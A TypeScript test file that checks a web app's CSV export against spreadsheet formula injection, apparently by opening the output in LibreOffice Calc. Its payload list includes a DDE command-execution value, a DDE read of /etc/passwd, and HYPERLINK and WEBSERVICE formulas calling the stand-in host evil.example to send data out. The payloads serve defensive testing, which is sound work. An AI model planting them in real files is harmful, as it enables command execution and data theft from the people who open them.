/** No text that the page exports becomes a formula in a spreadsheet, and every one is still there to read. */
import { beforeAll, describe, expect, test } from 'vitest';
import { csvText } from '../../web/src/take-away/csv.ts';
import { figure } from '../../web/src/take-away/table.ts';
import { openInCalc, type SheetCell } from './calc.ts';

const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=HYPERLINK("https://evil.example/?"&A1;"Café Luz")',
  '=WEBSERVICE("https://evil.example")',
  "'=1+1",
  '"=1+1"',
  '"=1+1',
  '=1+1"',
  'x";=1+1;"',
  'x",=1+1,"',
  'x\n=1+1',
  'x\r=1+1',
  'x;=1+1',
  'x,=1+1',
  'sep=;',
  'Café Luz & Söhne 東京',
];

const notations = {
  commas: { delimiter: ',', decimalMark: '.' },
  semicolons: { delimiter: ';', decimalMark: ',' },
} as const;
/** The letters alone: how spaces and line breaks in a cell are shown is the spreadsheet's own affair. */
const letters = (text: string): string => text.replace(/[\s\u200b\u202e\ufeff]/g, '');

describe.each(Object.entries(notations))('cells apart by %s', (_, notation) => {
  let rows: SheetCell[][];
  beforeAll(() => {
    const table = { id: 'test', columns: ['name', 'figure'], rows: hostile.map((text) => [text, figure('-1234.5')]) };
    rows = openInCalc(csvText(table, notation), notation.delimiter);
  });

  test('there are as many rows and columns as there were', () => {
    const filled = rows.filter((row) => row.some(({ text }) => text !== ''));
    expect(filled).toHaveLength(1 + hostile.length);
    expect(filled.map((row) => row.filter(({ text }) => text !== '').length)).toEqual(filled.map(() => 2));
  });

  test.each(hostile.map((text, index) => ({ text, index })))('$text', ({ text, index }) => {
    const [cell] = rows[index + 1] ?? [];
    expect(cell?.formula).toBeUndefined();
    expect(letters(cell?.text ?? '').replace(/^'/, '')).toBe(letters(text).replace(/^'/, ''));
  });
});

test('the same settings do run what is not made harmless', () => {
  const [row] = openInCalc('=1+1, =1+1\r\n', ',');
  expect(row).toEqual([
    { text: '2', formula: 'of:=1+1' },
    { text: '2', formula: 'of:=1+1' },
  ]);
});
